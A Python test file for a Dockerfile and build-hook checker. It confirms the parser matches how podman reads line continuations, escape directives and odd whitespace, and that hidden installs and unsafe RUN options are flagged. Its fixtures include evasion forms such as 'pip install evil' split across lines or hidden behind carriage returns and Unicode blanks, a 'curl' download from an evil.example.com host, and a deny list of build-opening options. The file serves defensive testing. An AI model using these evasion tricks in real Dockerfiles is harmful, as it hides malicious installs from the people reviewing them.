"""Dockerfiles and hooks written so that a reader sees other instructions than the engine builds."""

import datetime as dt
import json
import subprocess
from pathlib import Path

import pytest
from support.breaches import RUN_MARK
from support.clean_flavor import PROJECT, make_flavor, make_repository
from support.podman import podman

from factory.check.check import check_flavors
from factory.dockerfile.instructions import read_differently, split_flags
from factory.dockerfile.model import read_dockerfile
from factory.errors import SpecError
from factory.flavor.project import parse_project
from factory.flavor.repository import Flavor

TODAY = dt.date(2026, 11, 22)
DOCKERFILES = {
    "a name in two lines": "FROM scratch\nLAB\\\nEL a=1\n",
    "a value in two lines": "FROM scratch\nLABEL a=on\\\ne b=2\n",
    "blanks behind the backslash": "FROM scratch\nLABEL a=on\\ \t \ne\n",
    "blanks of the next line stay": "FROM scratch\nLABEL a=1\\\n   b=2\n",
    "a comment between": "FROM scratch\nLABEL a=1 \\\n# b=2 \\\n  c=3\n",
    "an indented comment between": "FROM scratch\nLABEL a=1 \\\n   # b=2\n  c=3\n",
    "an empty line between": "FROM scratch\nLABEL a=1 \\\n\n  b=2\n",
    "a backslash on a line of its own": "FROM scratch\n  \\\nLABEL a=1\n",
    "two backslashes": "FROM scratch\nLABEL a=1\\\\\nLABEL b=2\n",
    "an escape directive": "# escape=`\nFROM scratch\nLABEL a=on`\ne\n",
    "an escape directive with more": "#ESCAPE = ` more\nFROM scratch\nLABEL a=on`\ne\n",
    "an escape directive after another line": "\n# escape=`\nFROM scratch\nLABEL a=on\\\ne\n",
    "a byte-order mark": "\ufeffFROM scratch\nLABEL a=1\n",
    "a byte-order mark before a directive": "\ufeff# escape=`\nFROM scratch\nLABEL a=on`\ne\n",
    "line endings of Windows": "FROM scratch\r\nLABEL a=on\\\r\ne\r\n",
    "a vertical tab after the name": "FROM scratch\nLABEL\va=1\n",
    "a form feed after the name": "FROM scratch\nLABEL\fa=1\n",
    "a blank of Unicode before the name": "FROM scratch\n\u00a0LABEL a=1\n",
    "a blank of Unicode before a comment": "FROM scratch\nLABEL a=1 \\\n\u2003# x\n  b=2\n",
    "a last line that goes on": "FROM scratch\nLABEL a=1 \\\n",
}
HIDDEN_INSTALLS = {
    "a word in two lines": "RUN pip ins\\\ntall evil",
    "a name in two lines": "RU\\\nN pip install evil",
    "two dashes before the command": "RUN -- pip install evil",
    "a vertical tab after RUN": "RUN\vpip install evil",
    "a form feed after RUN": "RUN\fpip install evil",
    "a comment behind a carriage return": "RUN true\r# ; pip install evil",
    "a comment behind a line separator": "RUN true \u2028# ; pip install evil",
    "a comment behind a next-line character": "RUN true \x85# ; pip install evil",
    "a quoted option": 'RUN --mount="type=cache,target=/a b" pip install evil',
    "a blank of Unicode before RUN": "\u00a0RUN pip install evil",
    "a word of a script in two lines": "RUN sh -c 'pip ins\\\ntall evil'",
}
UNSAFE_OPTIONS = (
    "--network=host",
    '--network="ho"st',
    "--net\\\nwork=host",
    "--network=bridge",
    "--security=insecure",
    "--mount=type=secret,id=token",
    "--mount=type=ssh",
    '--mount="type=secret",id=token',
    "--mount=type=$KIND,target=/a",
    "--mount=type=bind,source=.,target=/a,bind-propagation=rshared",
    "--mount=type=cache,target=/c --network=host",
    "--device=/dev/kvm",
)
SAFE_OPTIONS = (
    "--network=none",
    "--mount=type=cache,target=/var/cache/dnf",
    "--mount=type=tmpfs,target=/tmp",
    "--mount=type=bind,source=own.py,target=/own.py",
    "--mount=from=builder,source=/a,target=/a",
)


@pytest.fixture
def flavor(tmp_path: Path) -> Flavor:
    return make_flavor(make_repository(tmp_path))


def _found(flavor: Flavor, lines: str) -> dict[str, str]:
    """The codes and messages of what is found with lines added outside of the MIDSTREAM ONLY block."""
    path = flavor.folder / "Dockerfile"
    text = path.read_text(encoding="utf-8").replace(RUN_MARK, f"{RUN_MARK}{lines}\n")
    path.write_text(text, encoding="utf-8", newline="")
    root = flavor.folder.parents[1]
    report = check_flavors([flavor], root=root, today=TODAY)
    return {finding.code: finding.message for finding in report.findings}


@pytest.mark.container
@pytest.mark.parametrize("text", DOCKERFILES.values(), ids=DOCKERFILES)
def test_a_dockerfile_is_read_as_podman_reads_it(engine: None, tmp_path: Path, text: str) -> None:
    (tmp_path / "Dockerfile").write_text(text, newline="")
    words = ("--layers=false", "--network", "none", "--iidfile", tmp_path / "id")
    said = podman("build", *words, tmp_path, stderr=subprocess.PIPE)
    image = (tmp_path / "id").read_text()
    try:
        (document,) = json.loads(podman("image", "inspect", image))
    finally:
        podman("image", "rm", image)
    steps = [line.partition(": ")[2] for line in said.split("\n") if line.startswith("STEP ")]
    read = [item for item in read_dockerfile(text).instructions if item.name == "LABEL"]
    assert [f"{item.name} {item.text}".split() for item in read] == [step.split() for step in steps[1:]]
    # The step is what podman shows; the labels are what it made of it.
    told = {pair.partition("=")[0] for item in read for pair in item.text.split()}
    assert told == {name for name in document["Labels"] if not name.startswith("io.buildah.")}


@pytest.mark.parametrize("line", HIDDEN_INSTALLS.values(), ids=HIDDEN_INSTALLS)
def test_an_install_is_found_however_it_is_written(flavor: Flavor, line: str) -> None:
    assert "evil" in _found(flavor, line).get("FAC403", "")


def test_a_download_in_two_lines_is_found(flavor: Flavor) -> None:
    assert "curl" in _found(flavor, "RUN cu\\\nrl -O https://evil.example.com/x")["FAC404"]


def test_a_dockerfile_behind_a_byte_order_mark_is_checked(flavor: Flavor) -> None:
    path = flavor.folder / "Dockerfile"
    text = path.read_text(encoding="utf-8").replace(RUN_MARK, f"{RUN_MARK}RUN pip install evil\n")
    path.write_text(f"\ufeff{text}", encoding="utf-8")
    report = check_flavors([flavor], root=flavor.folder.parents[1], today=TODAY)
    codes = {finding.code for finding in report.findings}
    assert "FAC403" in codes
    # Nothing of the first line is lost: stages and labels are those without the mark.
    assert not codes & {"FAC404", "FAC414"}


@pytest.mark.parametrize("option", UNSAFE_OPTIONS)
def test_a_run_option_that_opens_the_build_is_found(flavor: Flavor, option: str) -> None:
    assert "FAC419" in _found(flavor, f"RUN {option} true")


@pytest.mark.parametrize("option", UNSAFE_OPTIONS)
@pytest.mark.parametrize("hook", ["midstream", "before-install", "after-install"])
def test_a_run_option_that_opens_the_build_is_refused_in_hooks(option: str, hook: str) -> None:
    text = f"{PROJECT}\n[tool.factory.hooks]\n{hook} = '''\nRUN {option} true\n'''\n"
    with pytest.raises(SpecError, match="opens the build"):
        parse_project(text, where="pyproject.toml")


@pytest.mark.parametrize("option", SAFE_OPTIONS)
def test_a_plain_run_option_stays_allowed(flavor: Flavor, option: str) -> None:
    assert "FAC419" not in _found(flavor, f"RUN {option} true")
    text = f"{PROJECT}\n[tool.factory.hooks]\nbefore-install = '''\nRUN {option} true\n'''\n"
    parse_project(text, where="pyproject.toml")


@pytest.mark.parametrize(
    "text",
    [
        "FROM a\nRUN true \\\\\nRUN pip install evil\n",
        "# syntax=x\n# escape=`\nFROM a\nRUN true\n",
        "# escape=` x\nFROM a\n",
        "FROM a\nRUN true\rRUN pip install evil\n",
        "FROM a\n# a comment\r####################\r# MIDSTREAM ONLY\r####################\nRUN true\n",
    ],
)
def test_what_engines_read_in_different_ways_is_told(text: str) -> None:
    assert read_differently(text.split("\n"))


def test_what_every_engine_reads_alike_is_not_told() -> None:
    text = "# escape=`\nFROM a\n# a comment \\\\\nRUN a `\n  b\n# escape=`\nLABEL a=\\\\x\n"
    assert not read_differently(text.split("\n"))


def test_a_hook_that_engines_read_in_different_ways_is_refused() -> None:
    text = f"{PROJECT}\n[tool.factory.hooks]\nmidstream = '''\nRUN true \\\\\nRUN dnf install x\n'''\n"
    with pytest.raises(SpecError, match="line 1 has"):
        parse_project(text, where="pyproject.toml")


@pytest.mark.parametrize(
    ("text", "flags", "rest"),
    [
        ("true", (), "true"),
        ("--a=1 --b x --c", ("--a=1", "--b"), "x --c"),
        ("--a='x y' z", ("--a=x y",), "z"),
        ('--a="x\\"y"z  w', ('--a=x"yz',), "w"),
        ("-- --a b", (), "--a b"),
        ("--a", ("--a",), ""),
        ("", (), ""),
    ],
)
def test_options_are_split_off_as_the_parser_does(text: str, flags: tuple[str, ...], rest: str) -> None:
    assert split_flags(text) == (flags, rest)
